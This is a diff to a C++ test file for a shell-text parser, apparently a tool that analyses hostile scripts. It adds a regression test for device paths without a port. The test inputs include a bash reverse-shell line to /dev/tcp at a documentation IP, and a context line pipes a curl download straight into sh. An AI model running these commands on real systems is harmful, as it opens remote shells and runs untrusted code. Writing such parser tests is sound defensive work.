@@ -199,6 +199,12 @@ TEST(ShellFacts, HostileScriptsEndSoonAndSayTruncated) {
       << "a flood of harmless commands hides nothing";
 }
 
+// A device path without a port once sent two functions into each other for ever.
+TEST(ShellFacts, DevicePathWithoutAPortIsAFile) {
+  const ShellFacts facts = facts_of_text("bash -i &>/dev/tcp/192.0.2.6 <&1\nsh < /dev/tcp/x\n");
+  EXPECT_EQ(facts.commands.size(), 2U);
+}
+
 TEST(ShellFactsCodec, EveryCutAndEveryFlippedByteIsAnErrorOrFacts) {
   const ShellFacts facts =
       facts_of_text("A=1 curl -s http://203.0.113.1/x 2>/dev/null | sh\npython3 -c 'print(1)'\n");
